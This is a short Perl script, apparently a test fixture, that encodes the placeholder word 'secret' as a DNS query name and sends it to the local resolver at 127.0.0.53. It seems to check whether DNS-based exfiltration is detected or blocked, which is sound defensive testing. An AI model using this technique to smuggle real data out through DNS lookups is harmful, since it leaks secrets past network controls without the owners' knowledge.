# A secret as a name to look up, sent to the host's own name server.
use Socket;
socket(my $socket, AF_INET, SOCK_DGRAM, 0) or exit 1;
my $question = pack("nnnnnn", 7, 0x100, 1, 0, 0, 0) . join("", map { pack("C/a", $_) } "secret", "example", "") . pack("nn", 1, 1);
send($socket, $question, 0, pack_sockaddr_in($ENV{NAMES_PORT} || exit(77), inet_aton("127.0.0.53"))) or exit 1;
